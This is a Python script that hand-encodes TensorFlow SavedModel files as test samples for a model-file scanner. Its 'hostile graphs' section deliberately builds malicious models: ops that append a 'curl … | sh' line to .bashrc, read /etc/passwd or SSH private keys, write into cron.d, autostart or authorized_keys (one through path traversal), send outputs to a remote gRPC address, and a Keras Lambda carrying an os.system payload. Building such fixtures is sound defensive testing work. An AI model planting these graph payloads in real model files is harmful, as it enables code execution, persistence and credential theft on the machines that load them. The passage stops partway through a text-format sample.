#!/usr/bin/env python3
"""Write mscan's TensorFlow SavedModel samples (samples/savedmodel/) and their manifest entries.

TensorFlow is not installed here, so every protobuf is encoded by hand below (a few lines of
wire format: varints, tags, length-delimited fields) following the field numbers of
tensorflow/core/protobuf/{saved_model,meta_graph,saver}.proto and
tensorflow/core/framework/{graph,node_def,function,attr_value,tensor,op_def}.proto, and
keras/protobuf/saved_metadata.proto. Each SavedModel sits in its own directory as
saved_model.pb (or saved_model.pbtxt), as tf.saved_model.save writes it.

Nothing here runs a model. The Keras Lambda sample holds marshal.dumps() of a compiled lambda
(compiling is not running; the code object is never loaded or called) whose body would run
`id`, a harmless command.

    python3 samples/make_savedmodel_samples.py

Then refresh the goldens: MSCAN_UPDATE_GOLDEN=1 build/tests/mscan_tests "golden*"
"""

from __future__ import annotations

import base64
import json
import marshal
import shutil
import struct
from pathlib import Path

from make_samples import MEDIUM_PLUS, ROOT, update_manifest

OUT = Path(__file__).resolve().parent / "savedmodel"

# --- protobuf wire format -------------------------------------------------------------------


def varint(n: int) -> bytes:
    if n < 0:
        n += 1 << 64
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def tag(field: int, wire: int) -> bytes:
    return varint(field << 3 | wire)


def f_varint(field: int, n: int) -> bytes:
    return tag(field, 0) + varint(n)


def f_bytes(field: int, data) -> bytes:
    if isinstance(data, str):
        data = data.encode()
    return tag(field, 2) + varint(len(data)) + data


def f_float(field: int, x: float) -> bytes:
    return tag(field, 5) + struct.pack("<f", x)


def f_map(field: int, items: dict, value_fn=lambda v: v) -> bytes:
    """A map<string, V> field: one entry {key = 1, value = 2} per item, keys sorted."""
    return b"".join(f_bytes(field, f_bytes(1, k) + f_bytes(2, value_fn(v)))
                    for k, v in sorted(items.items()))


# DataType enum values (types.proto)
DT_FLOAT, DT_INT32, DT_STRING, DT_INT64, DT_RESOURCE = 1, 3, 7, 9, 20


# --- AttrValue ---------------------------------------------------------------------------------

def a_s(s) -> bytes:
    return f_bytes(2, s)


def a_i(i: int) -> bytes:
    return f_varint(3, i)


def a_b(b: bool) -> bytes:
    return f_varint(5, int(b))


def a_type(t: int) -> bytes:
    return f_varint(6, t)


def a_shape(*dims: int) -> bytes:
    # TensorShapeProto { repeated Dim dim = 2 { int64 size = 1; } }
    return f_bytes(7, b"".join(f_bytes(2, f_varint(1, d)) for d in dims))


def a_func(name: str) -> bytes:
    return f_bytes(10, f_bytes(1, name))  # NameAttrList { string name = 1; }


def a_list_type(*types: int) -> bytes:
    return f_bytes(1, f_bytes(6, b"".join(varint(t) for t in types)))  # packed


def a_list_s(*values: str) -> bytes:
    return f_bytes(1, b"".join(f_bytes(2, v) for v in values))


def a_string_tensor(*values: str) -> bytes:
    # TensorProto { dtype = 1; tensor_shape = 2; repeated bytes string_val = 8; }
    shape = f_bytes(2, f_varint(1, len(values))) if len(values) > 1 else b""
    return f_bytes(8, f_varint(1, DT_STRING) + f_bytes(2, shape) +
                   b"".join(f_bytes(8, v) for v in values))


def a_float_tensor(*values: float) -> bytes:
    packed = b"".join(struct.pack("<f", v) for v in values)
    return f_bytes(8, f_varint(1, DT_FLOAT) + f_bytes(2, b"") + f_bytes(5, packed))


# --- graph ---------------------------------------------------------------------------------------

def node(name: str, op: str, inputs=(), device: str = "", **attrs) -> bytes:
    """NodeDef { name = 1; op = 2; repeated input = 3; device = 4; map attr = 5; }"""
    b = f_bytes(1, name) + f_bytes(2, op)
    b += b"".join(f_bytes(3, i) for i in inputs)
    if device:
        b += f_bytes(4, device)
    b += f_map(5, attrs)
    return b


def const_str(name: str, *values: str) -> bytes:
    return node(name, "Const", dtype=a_type(DT_STRING), value=a_string_tensor(*values))


def const_f(name: str, *values: float) -> bytes:
    return node(name, "Const", dtype=a_type(DT_FLOAT), value=a_float_tensor(*values))


def arg(name: str, dtype: int) -> bytes:
    return f_bytes(1, name) + f_varint(3, dtype)  # OpDef.ArgDef { name = 1; type = 3; }


def function(name: str, nodes, inputs=(), outputs=(), ret=None, stateful=False) -> bytes:
    """FunctionDef { OpDef signature = 1; repeated NodeDef node_def = 3; map ret = 4; }"""
    sig = f_bytes(1, name)
    sig += b"".join(f_bytes(2, arg(n, t)) for n, t in inputs)
    sig += b"".join(f_bytes(3, arg(n, t)) for n, t in outputs)
    if stateful:
        sig += f_varint(17, 1)  # OpDef.is_stateful
    b = f_bytes(1, sig) + b"".join(f_bytes(3, n) for n in nodes)
    b += f_map(4, ret or {}, lambda v: v.encode())
    return b


def graph(nodes, functions=()) -> bytes:
    """GraphDef { repeated NodeDef node = 1; FunctionDefLibrary library = 2; versions = 4; }"""
    b = b"".join(f_bytes(1, n) for n in nodes)
    if functions:
        b += f_bytes(2, b"".join(f_bytes(1, f) for f in functions))
    b += f_bytes(4, f_varint(1, 1286) + f_varint(2, 12))  # VersionDef producer, min_consumer
    return b


def saver_def(filename: str, save: str, restore: str, sharded: bool) -> bytes:
    b = f_bytes(1, filename) + f_bytes(2, save) + f_bytes(3, restore) + f_varint(4, 5)
    if sharded:
        b += f_varint(5, 1)
    b += f_float(6, 10000.0) + f_varint(7, 2)  # keep_checkpoint_every_n_hours, version V2
    return b


def tensor_info(name: str, dtype: int) -> bytes:
    return f_bytes(1, name) + f_varint(2, dtype) + f_bytes(3, f_bytes(2, f_varint(1, 1)))


def signature(inputs: dict, outputs: dict) -> bytes:
    b = f_map(1, inputs, lambda v: tensor_info(*v)) + f_map(2, outputs, lambda v: tensor_info(*v))
    return b + f_bytes(3, "tensorflow/serving/predict")


def meta_graph(graph_def: bytes, saver: bytes = b"", signatures: dict | None = None,
               tf2: bool = True) -> bytes:
    info = f_bytes(4, "serve") + f_bytes(5, "2.13.0" if tf2 else "1.15.5")
    info += f_bytes(6, "v2.13.0-rc2-7-g1cb1a030a62" if tf2 else "v1.15.4-39-g3db52be")
    b = f_bytes(1, info) + f_bytes(2, graph_def)
    if saver:
        b += f_bytes(3, saver)
    b += f_map(5, signatures or {})
    if tf2:
        # SavedObjectGraph { repeated SavedObject nodes = 1; } with an empty root object
        b += f_bytes(7, f_bytes(1, b""))
    return b


def saved_model(*meta_graphs: bytes) -> bytes:
    """SavedModel { int64 saved_model_schema_version = 1; repeated MetaGraphDef meta_graphs = 2; }"""
    return f_varint(1, 1) + b"".join(f_bytes(2, m) for m in meta_graphs)


# --- realistic models ----------------------------------------------------------------------------

def dense_call(name="__inference_call_90", extra=()) -> bytes:
    """The forward pass of a Dense(4, relu) layer as TF2 traces it."""
    nodes = [
        node("MatMul/ReadVariableOp", "ReadVariableOp", ["matmul_readvariableop_resource"],
             dtype=a_type(DT_FLOAT)),
        node("MatMul", "MatMul", ["inputs", "MatMul/ReadVariableOp:value:0"], T=a_type(DT_FLOAT),
             transpose_a=a_b(False), transpose_b=a_b(False)),
        node("BiasAdd/ReadVariableOp", "ReadVariableOp", ["biasadd_readvariableop_resource"],
             dtype=a_type(DT_FLOAT)),
        node("BiasAdd", "BiasAdd", ["MatMul:product:0", "BiasAdd/ReadVariableOp:value:0"],
             T=a_type(DT_FLOAT), data_format=a_s("NHWC")),
        node("Relu", "Relu", ["BiasAdd:output:0"], T=a_type(DT_FLOAT)),
        node("Identity", "Identity", ["Relu:activations:0"], T=a_type(DT_FLOAT)),
    ] + list(extra)
    return function(name, nodes,
                    inputs=[("inputs", DT_FLOAT), ("matmul_readvariableop_resource", DT_RESOURCE),
                            ("biasadd_readvariableop_resource", DT_RESOURCE)],
                    outputs=[("identity", DT_FLOAT)], ret={"identity": "Identity:output:0"})


def traced_save(name="__inference__traced_save_200") -> bytes:
    nodes = [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"],
             device="/device:CPU:*", pattern=a_s("^s3://.*")),
        const_str("Const", ".part"),
        const_str("Const_1", "_temp/part"),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0",
                                  "Const_1:output:0"], device="/device:CPU:*",
             T=a_type(DT_STRING)),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"],
             device="/device:CPU:*", N=a_i(2), separator=a_s("")),
        node("num_shards", "Const", dtype=a_type(DT_INT32)),
        node("ShardedFilename/shard", "Const", device="/device:CPU:0", dtype=a_type(DT_INT32)),
        node("ShardedFilename", "ShardedFilename",
             ["StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"],
             device="/device:CPU:0"),
        const_str("SaveV2/tensor_names", "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE",
                  "dense/bias/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
        const_str("SaveV2/shape_and_slices", "", "", ""),
        node("SaveV2", "SaveV2",
             ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0",
              "SaveV2/shape_and_slices:output:0", "savev2_dense_kernel_read_readvariableop",
              "savev2_dense_bias_read_readvariableop", "savev2_const"],
             device="/device:CPU:0", dtypes=a_list_type(DT_FLOAT, DT_FLOAT, DT_STRING)),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack",
             ["ShardedFilename:filename:0", "^SaveV2"], device="/device:CPU:0", N=a_i(1),
             T=a_type(DT_STRING), axis=a_i(0)),
        node("MergeV2Checkpoints", "MergeV2Checkpoints",
             ["MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"],
             device="/device:CPU:0"),
        node("Identity", "Identity", ["file_prefix", "^MergeV2Checkpoints"],
             device="/device:CPU:0", T=a_type(DT_STRING)),
    ]
    return function(name, nodes,
                    inputs=[("file_prefix", DT_STRING),
                            ("savev2_dense_kernel_read_readvariableop", DT_FLOAT),
                            ("savev2_dense_bias_read_readvariableop", DT_FLOAT),
                            ("savev2_const", DT_STRING)],
                    outputs=[("identity_1", DT_STRING)], ret={"identity_1": "Identity:output:0"},
                    stateful=True)


def traced_restore(name="__inference__traced_restore_300") -> bytes:
    nodes = [
        const_str("RestoreV2/tensor_names", "dense/kernel/.ATTRIBUTES/VARIABLE_VALUE",
                  "dense/bias/.ATTRIBUTES/VARIABLE_VALUE", "_CHECKPOINTABLE_OBJECT_GRAPH"),
        const_str("RestoreV2/shape_and_slices", "", "", ""),
        node("RestoreV2", "RestoreV2",
             ["file_prefix", "RestoreV2/tensor_names:output:0",
              "RestoreV2/shape_and_slices:output:0"], device="/device:CPU:0",
             dtypes=a_list_type(DT_FLOAT, DT_FLOAT, DT_STRING)),
        node("Identity", "Identity", ["RestoreV2:tensors:0"], T=a_type(DT_FLOAT)),
        node("AssignVariableOp", "AssignVariableOp", ["assignvariableop_dense_kernel",
                                                      "Identity:output:0"],
             dtype=a_type(DT_FLOAT)),
        node("Identity_1", "Identity", ["RestoreV2:tensors:1"], T=a_type(DT_FLOAT)),
        node("AssignVariableOp_1", "AssignVariableOp", ["assignvariableop_1_dense_bias",
                                                        "Identity_1:output:0"],
             dtype=a_type(DT_FLOAT)),
        node("NoOp", "NoOp", ["^AssignVariableOp", "^AssignVariableOp_1"]),
        node("Identity_2", "Identity", ["file_prefix", "^NoOp"], T=a_type(DT_STRING)),
    ]
    return function(name, nodes,
                    inputs=[("file_prefix", DT_STRING),
                            ("assignvariableop_dense_kernel", DT_RESOURCE),
                            ("assignvariableop_1_dense_bias", DT_RESOURCE)],
                    outputs=[("identity_3", DT_STRING)], ret={"identity_3": "Identity_2:output:0"},
                    stateful=True)


def tf2_model(extra_graph_nodes=(), extra_functions=(), call_extra=(), saver=True) -> bytes:
    """A Keras Dense(4) model saved with tf.saved_model.save (TF 2.13), hand-encoded."""
    nodes = [
        node("dense/kernel", "VarHandleOp", dtype=a_type(DT_FLOAT), shape=a_shape(3, 4),
             shared_name=a_s("dense/kernel")),
        node("dense/bias", "VarHandleOp", dtype=a_type(DT_FLOAT), shape=a_shape(4),
             shared_name=a_s("dense/bias")),
        node("serving_default_inputs", "Placeholder", dtype=a_type(DT_FLOAT), shape=a_shape(1, 3)),
        node("StatefulPartitionedCall", "StatefulPartitionedCall",
             ["serving_default_inputs", "dense/kernel", "dense/bias"],
             Tin=a_list_type(DT_FLOAT, DT_RESOURCE, DT_RESOURCE), Tout=a_list_type(DT_FLOAT),
             f=a_func("__inference_signature_wrapper_100")),
        node("saver_filename", "Placeholder", dtype=a_type(DT_STRING), shape=a_shape()),
        const_str("Const", ""),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall",
             ["saver_filename", "dense/kernel", "dense/bias", "Const"],
             Tin=a_list_type(DT_STRING, DT_RESOURCE, DT_RESOURCE, DT_STRING),
             Tout=a_list_type(DT_STRING), f=a_func("__inference__traced_save_200")),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall",
             ["saver_filename", "dense/kernel", "dense/bias"],
             Tin=a_list_type(DT_STRING, DT_RESOURCE, DT_RESOURCE), Tout=a_list_type(DT_STRING),
             f=a_func("__inference__traced_restore_300")),
    ] + list(extra_graph_nodes)
    wrapper = function("__inference_signature_wrapper_100", [
        node("StatefulPartitionedCall", "StatefulPartitionedCall",
             ["inputs", "unknown", "unknown_0"],
             Tin=a_list_type(DT_FLOAT, DT_RESOURCE, DT_RESOURCE), Tout=a_list_type(DT_FLOAT),
             f=a_func("__inference_call_90")),
        node("Identity", "Identity", ["StatefulPartitionedCall:output:0"], T=a_type(DT_FLOAT)),
    ], inputs=[("inputs", DT_FLOAT), ("unknown", DT_RESOURCE), ("unknown_0", DT_RESOURCE)],
        outputs=[("output_0", DT_FLOAT)], ret={"output_0": "Identity:output:0"})
    functions = [dense_call(extra=call_extra), wrapper, traced_save(), traced_restore()]
    functions += list(extra_functions)
    sv = saver_def("saver_filename:0", "StatefulPartitionedCall_1:0",
                   "StatefulPartitionedCall_2", sharded=True) if saver else b""
    sigs = {"serving_default": signature({"inputs": ("serving_default_inputs:0", DT_FLOAT)},
                                         {"output_0": ("StatefulPartitionedCall:0", DT_FLOAT)})}
    return saved_model(meta_graph(graph(nodes, functions), sv, sigs, tf2=True))


def tf1_model(extra_nodes=(), restore_controls=(), y_controls=(), default="model") -> bytes:
    """A TF1 graph (x @ w + b, relu) exported by SavedModelBuilder with its sharded Saver.
    `restore_controls` are extra control inputs of save/restore_all, `y_controls` of the output
    y, `default` the value save/Const has when the loader does not feed it."""
    nodes = [
        node("x", "Placeholder", dtype=a_type(DT_FLOAT), shape=a_shape(1, 3)),
        node("w", "VariableV2", dtype=a_type(DT_FLOAT), shape=a_shape(3, 4), container=a_s(""),
             shared_name=a_s("")),
        node("w/read", "Identity", ["w"], T=a_type(DT_FLOAT)),
        node("b", "VariableV2", dtype=a_type(DT_FLOAT), shape=a_shape(4), container=a_s(""),
             shared_name=a_s("")),
        node("b/read", "Identity", ["b"], T=a_type(DT_FLOAT)),
        node("MatMul", "MatMul", ["x", "w/read"], T=a_type(DT_FLOAT)),
        node("BiasAdd", "BiasAdd", ["MatMul", "b/read"], T=a_type(DT_FLOAT)),
        node("y", "Relu", ["BiasAdd"] + ["^" + c for c in y_controls], T=a_type(DT_FLOAT)),
        const_str("save/filename/input", default),
        node("save/filename", "PlaceholderWithDefault", ["save/filename/input"],
             dtype=a_type(DT_STRING), shape=a_shape()),
        node("save/Const", "PlaceholderWithDefault", ["save/filename"], dtype=a_type(DT_STRING),
             shape=a_shape()),
        const_str("save/StringJoin/inputs_1", "_temp_6a0b/part"),
        node("save/StringJoin", "StringJoin", ["save/Const", "save/StringJoin/inputs_1"],
             N=a_i(2), separator=a_s("")),
        node("save/num_shards", "Const", dtype=a_type(DT_INT32)),
        node("save/ShardedFilename/shard", "Const", dtype=a_type(DT_INT32)),
        node("save/ShardedFilename", "ShardedFilename",
             ["save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"]),
        const_str("save/SaveV2/tensor_names", "b", "w"),
        const_str("save/SaveV2/shape_and_slices", "", ""),
        node("save/SaveV2", "SaveV2", ["save/ShardedFilename", "save/SaveV2/tensor_names",
                                       "save/SaveV2/shape_and_slices", "b", "w"],
             dtypes=a_list_type(DT_FLOAT, DT_FLOAT)),
        node("save/control_dependency", "Identity", ["save/ShardedFilename", "^save/SaveV2"],
             T=a_type(DT_STRING), _class=a_list_s("loc:@save/ShardedFilename")),
        node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack",
             ["save/ShardedFilename", "^save/control_dependency"], N=a_i(1), T=a_type(DT_STRING)),
        node("save/MergeV2Checkpoints", "MergeV2Checkpoints",
             ["save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"],
             delete_old_dirs=a_b(True)),
        node("save/Identity", "Identity", ["save/Const", "^save/MergeV2Checkpoints",
                                           "^save/control_dependency"], T=a_type(DT_STRING)),
        const_str("save/RestoreV2/tensor_names", "b", "w"),
        const_str("save/RestoreV2/shape_and_slices", "", ""),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names",
                                             "save/RestoreV2/shape_and_slices"],
             dtypes=a_list_type(DT_FLOAT, DT_FLOAT)),
        node("save/Assign", "Assign", ["b", "save/RestoreV2"], T=a_type(DT_FLOAT)),
        node("save/Assign_1", "Assign", ["w", "save/RestoreV2:1"], T=a_type(DT_FLOAT)),
        node("save/restore_shard", "NoOp", ["^save/Assign", "^save/Assign_1"]),
        node("save/restore_all", "NoOp",
             ["^save/restore_shard"] + ["^" + c for c in restore_controls]),
    ] + list(extra_nodes)
    sv = saver_def("save/Const:0", "save/Identity:0", "save/restore_all", sharded=True)
    sigs = {"serving_default": signature({"x": ("x:0", DT_FLOAT)}, {"y": ("y:0", DT_FLOAT)})}
    return saved_model(meta_graph(graph(nodes), sv, sigs, tf2=False))


# --- hostile graphs --------------------------------------------------------------------------------

def readfile_model() -> bytes:
    return tf1_model([
        const_str("secret_path", "/etc/passwd"),
        node("ReadFile", "ReadFile", ["secret_path"]),
        node("leak", "Identity", ["ReadFile"], T=a_type(DT_STRING)),
    ])


def writefile_in_function() -> bytes:
    return tf2_model(call_extra=[
        const_str("target", "/home/user/.bashrc"),
        const_str("payload", "curl https://203.0.113.7/x | sh\n"),
        node("WriteFile", "WriteFile", ["target:output:0", "payload:output:0"]),
    ])


def pyfunc_model() -> bytes:
    return tf1_model([
        node("PyFunc", "PyFunc", ["x"], token=a_s("pyfunc_0"), Tin=a_list_type(DT_FLOAT),
             Tout=a_list_type(DT_FLOAT)),
    ])


def eager_pyfunc_in_function() -> bytes:
    return tf2_model(call_extra=[
        node("EagerPyFunc", "EagerPyFunc", ["inputs"], token=a_s("pyfunc_3"),
             Tin=a_list_type(DT_FLOAT), Tout=a_list_type(DT_FLOAT), is_async=a_b(False)),
    ])


def savev2_outside_saver() -> bytes:
    """A TF1 graph whose serving path also saves the variables to a path of its choosing."""
    return tf1_model([
        const_str("exfil/prefix", "/tmp/mscan-sample/stolen"),
        const_str("exfil/names", "b", "w"),
        const_str("exfil/slices", "", ""),
        node("exfil/SaveV2", "SaveV2", ["exfil/prefix", "exfil/names", "exfil/slices", "b", "w"],
             dtypes=a_list_type(DT_FLOAT, DT_FLOAT)),
    ])


def fake_traced_save() -> bytes:
    """A function named like TF2's saver function that the SaverDef does not use."""
    fake = function("__inference__traced_save_999", [
        const_str("prefix", "/home/user/.config/autostart/x"),
        const_str("names", "payload"),
        const_str("slices", ""),
        node("SaveV2", "SaveV2", ["prefix:output:0", "names:output:0", "slices:output:0",
                                  "inputs"], dtypes=a_list_type(DT_FLOAT)),
        node("Identity", "Identity", ["inputs"], T=a_type(DT_FLOAT)),
    ], inputs=[("inputs", DT_FLOAT)], outputs=[("out", DT_FLOAT)],
        ret={"out": "Identity:output:0"}, stateful=True)
    return tf2_model(extra_functions=[fake], call_extra=[
        node("StatefulPartitionedCall", "StatefulPartitionedCall", ["inputs"],
             Tin=a_list_type(DT_FLOAT), Tout=a_list_type(DT_FLOAT),
             f=a_func("__inference__traced_save_999")),
    ])


def saver_extra_save() -> bytes:
    """An extra Save writing a constant file name, made a control dependency of
    save/restore_all: the loader runs it when it restores the variables."""
    return tf1_model([
        const_str("save/cron_path", "/etc/cron.d/mscan-sample"),
        const_str("save/cron_names", "w"),
        node("save/Save", "Save", ["save/cron_path", "save/cron_names", "w"],
             T=a_list_type(DT_FLOAT)),
    ], restore_controls=["save/Save"])


def saver_suffix_traversal() -> bytes:
    """A SaveV2 chained into save/restore_all whose prefix is the loader's file name joined
    with "/../../../../etc/cron.d/x": the file name traces back to save/Const, the suffix
    climbs out of the model's directory."""
    return tf1_model([
        const_str("save/StringJoin_1/inputs_1", "/../../../../etc/cron.d/mscan-sample"),
        node("save/StringJoin_1", "StringJoin", ["save/Const", "save/StringJoin_1/inputs_1"],
             N=a_i(2), separator=a_s("")),
        const_str("save/SaveV2_1/tensor_names", "w"),
        const_str("save/SaveV2_1/shape_and_slices", ""),
        node("save/SaveV2_1", "SaveV2", ["save/StringJoin_1", "save/SaveV2_1/tensor_names",
                                         "save/SaveV2_1/shape_and_slices", "w"],
             dtypes=a_list_type(DT_FLOAT)),
    ], restore_controls=["save/SaveV2_1"])


def saver_hostile_default() -> bytes:
    """save/Const defaults to a path in the user's home, and a Save of that file name hangs on
    both save/restore_all and the serving output y: serving does not feed save/Const."""
    return tf1_model([
        const_str("save/Save/tensor_names", "w"),
        node("save/Save", "Save", ["save/Const", "save/Save/tensor_names", "w"],
             T=a_list_type(DT_FLOAT)),
    ], restore_controls=["save/Save"], y_controls=["save/Save"],
        default="/home/user/.config/autostart/mscan-sample.desktop")


def traced_save_called_elsewhere() -> bytes:
    """TF2 model whose forward function also calls the saver's own save function, with a
    constant prefix: the same SaveV2 then writes where the graph says."""
    return tf2_model(call_extra=[
        const_str("evil_prefix", "/home/user/.ssh/authorized_keys"),
        node("StatefulPartitionedCall_9", "StatefulPartitionedCall",
             ["evil_prefix:output:0", "unknown", "unknown_0", "evil_prefix:output:0"],
             Tin=a_list_type(DT_STRING, DT_RESOURCE, DT_RESOURCE, DT_STRING),
             Tout=a_list_type(DT_STRING), f=a_func("__inference__traced_save_200")),
    ])


def rpc_model() -> bytes:
    """TF1 graph sending its output to a gRPC address with TryRpc (an op of TensorFlow's
    registry with an address input, deny-by-default)."""
    return tf1_model([
        const_str("rpc/address", "203.0.113.7:50051"),
        const_str("rpc/method", "/exfil.Service/Put"),
        node("rpc/request", "AsString", ["y"], T=a_type(DT_FLOAT)),
        node("rpc/TryRpc", "TryRpc", ["rpc/address", "rpc/method", "rpc/request"],
             protocol=a_s("grpc"), fail_fast=a_b(False)),
    ])


def cache_dataset_model() -> bytes:
    """TF2 function caching a dataset to /tmp with CacheDatasetV2 (a filename input)."""
    return tf2_model(call_extra=[
        const_str("cache_path", "/home/user/.bashrc"),
        node("CacheDatasetV2", "CacheDatasetV2", ["inputs", "cache_path:output:0", "inputs"],
             output_types=a_list_type(DT_FLOAT), output_shapes=f_bytes(1, b"")),
    ])


def matching_files_model() -> bytes:
    return tf1_model([
        const_str("pattern", "/home/*/.ssh/id_*"),
        node("MatchingFiles", "MatchingFiles", ["pattern"]),
    ])


def print_model() -> bytes:
    return tf2_model(call_extra=[
        node("StringFormat", "StringFormat", ["inputs"], T=a_list_type(DT_FLOAT),
             template=a_s("{}"), placeholder=a_s("{}"), summarize=a_i(3)),
        node("PrintV2", "PrintV2", ["StringFormat:output:0"],
             output_stream=a_s("file:///tmp/mscan-sample-inputs.log"), end=a_s("\n")),
    ])


def debug_grpc_model() -> bytes:
    return tf1_model([
        node("y/debug", "DebugIdentityV2", ["y"], T=a_type(DT_FLOAT),
             debug_urls=a_list_s("grpc://203.0.113.7:6064"), op_name=a_s("y"),
             tfdbg_context_id=a_s("ctx")),
    ])


def init_table_from_file() -> bytes:
    """A lookup table initialised from a text file: TF2 runs such initialisers when it loads
    the model (__saved_model_init_op)."""
    return tf1_model([
        const_str("vocab_path", "/home/user/.ssh/id_rsa"),
        node("table", "HashTableV2", key_dtype=a_type(DT_STRING), value_dtype=a_type(DT_INT64)),
        node("table/init", "InitializeTableFromTextFileV2", ["table", "vocab_path"],
             key_index=a_i(-2), value_index=a_i(-1), delimiter=a_s("\t")),
    ])


def decode_proto(descriptor_source: str) -> bytes:
    return tf1_model([
        node("decode", "DecodeProtoV2", ["x"], message_type=a_s("demo.Message"),
             field_names=a_list_s("f"), output_types=a_list_type(DT_STRING),
             descriptor_source=a_s(descriptor_source), message_format=a_s("binary"),
             sanitize=a_b(False)),
    ])


def debug_v3_model() -> bytes:
    return tf1_model([
        node("y/debug", "DebugIdentityV3", ["y"], T=a_type(DT_FLOAT),
             debug_urls=a_list_s("grpc://203.0.113.7:6064"), tensor_name=a_s("y:0")),
    ])


def truncated_model() -> bytes:
    data = tf2_model()
    return data[: len(data) * 2 // 3]


def readfile_then_truncated() -> bytes:
    data = readfile_model()
    at = data.index(b"leak")  # cut inside the node after ReadFile
    return data[:at]


def bad_wire_type_model() -> bytes:
    """GraphDef.node written as a varint: protobuf refuses the file."""
    g = f_bytes(1, node("x", "Placeholder", dtype=a_type(DT_FLOAT))) + f_varint(1, 7)
    g += f_bytes(1, node("ReadFile", "ReadFile", ["x"]))
    return saved_model(meta_graph(g, tf2=False))


def pyfunc_reordered() -> bytes:
    """The PyFunc model with its fields in another order and unknown fields first (protobuf
    parsers accept both): an unknown varint field 15, an unknown fixed32 field 9, then the meta
    graph, then the schema version last."""
    model = pyfunc_model()
    version = f_varint(1, 1)
    assert model.startswith(version)
    unknown = f_varint(15, 7) + tag(9, 5) + b"\x00\x00\x00\x00"
    return unknown + model[len(version):] + version


# --- keras_metadata.pb -----------------------------------------------------------------------------

def saved_object(node_id: int, path: str, identifier: str, metadata: dict) -> bytes:
    """SavedObject { int32 node_id = 2; string node_path = 3; string identifier = 4;
    string metadata = 5; VersionDef version = 6; } (tf.keras's numbering)."""
    b = (f_varint(2, node_id) if node_id else b"") + f_bytes(3, path) + f_bytes(4, identifier)
    b += f_bytes(5, json.dumps(metadata, separators=(", ", ": ")))
    b += f_bytes(6, f_varint(1, 2) + f_varint(2, 1))  # producer 2, min_consumer 1
    return b


def keras_metadata(objects) -> bytes:
    return b"".join(f_bytes(1, o) for o in objects)


def dense_layer_config(name="dense"):
    return {"class_name": "Dense", "config": {
        "name": name, "trainable": True, "dtype": "float32", "units": 4, "activation": "relu",
        "use_bias": True,
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None}}


def layer_metadata(layer: dict) -> dict:
    return {"name": layer["config"]["name"], "trainable": True, "expects_training_arg": False,
            "dtype": "float32", "batch_input_shape": None, "stateful": False,
            "must_restore_from_config": False, **layer}


def model_metadata(layers) -> dict:
    config = {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3],
                                                "dtype": "float32", "sparse": False,
                                                "ragged": False, "name": "input_1"}}] + layers}
    return {"name": "sequential", "trainable": True, "expects_training_arg": True,
            "dtype": "float32", "batch_input_shape": None, "must_restore_from_config": False,
            "class_name": "Sequential", "config": config, "shared_object_id": 0,
            "is_graph_network": True, "keras_version": "2.13.1", "backend": "tensorflow",
            "model_config": {"class_name": "Sequential", "config": config}}


def benign_keras_metadata() -> bytes:
    dense = dense_layer_config()
    return keras_metadata([
        saved_object(0, "root", "_tf_keras_sequential", model_metadata([dense])),
        saved_object(1, "root.layer_with_weights-0", "_tf_keras_layer", layer_metadata(dense)),
    ])


def lambda_fifth_keras_metadata() -> bytes:
    """The Lambda model's nodes behind four that are not tf.keras objects (no _tf_keras
    identifier): Keras reads every node of keras_metadata.pb all the same."""
    filler = [saved_object(10 + i, f"root.extra-{i}", "trackable_list_wrapper", {})
              for i in range(4)]
    return keras_metadata(filler) + lambda_keras_metadata()


def lambda_keras_metadata() -> bytes:
    # Compiled, never run: the code object only travels as bytes.
    code = compile('lambda x: __import__("os").system("id")', "<string>", "eval")
    b64 = base64.b64encode(marshal.dumps(code)).decode()
    lam = {"class_name": "Lambda", "config": {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__",
                     "config": {"code": b64, "defaults": None, "closure": None}},
        "function_type": "lambda", "module": "__main__", "output_shape": None,
        "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}}
    dense = dense_layer_config()
    return keras_metadata([
        saved_object(0, "root", "_tf_keras_sequential", model_metadata([lam, dense])),
        saved_object(1, "root.layer-1", "_tf_keras_layer", layer_metadata(lam)),
        saved_object(2, "root.layer_with_weights-0", "_tf_keras_layer", layer_metadata(dense)),
    ])


# --- text format -----------------------------------------------------------------------------------

PBTXT_BENIGN = '''\
saved_model_schema_version: 1
meta_graphs {
  meta_info_def {
    tags: "serve"
    tensorflow_version: "1.15.5"
  }
  graph_def {
    node {
      name: "x"
      op: "Placeholder"
      attr { key: "dtype" value { type: DT_FLOAT } }
    }
    node {
      name: "MatMul"
      op: "MatMul"
      input: "x"
      input: "w/read"
      attr { key: "T" value { type: DT_FLOAT } }
    }
    node {
      name: "save/filename/input"
      op: "Const"
      attr { key: "dtype" value { type: DT_STRING } }
      attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "model" } } }
    }
    node {
      name: "save/filename"
      op: "PlaceholderWithDefault"
      input: "save/filename/input"
      attr { key: "dtype" value { type: DT_STRING } }
    }
    node {
      name: "save/Const"
      op: "PlaceholderWithDefault"
      input: "save/filename"
      attr { key: "dtype" value { type: DT_STRING } }
    }
    node {
      name: "save/StringJoin/inputs_1"
      op: "Const"
      attr { key: "dtype" value { type: DT_STRING } }
      attr { key: "value" value { tensor { dtype: DT_STRING tensor_shape { } string_val: "_temp_6a0b/part" } } }
    }
    node {
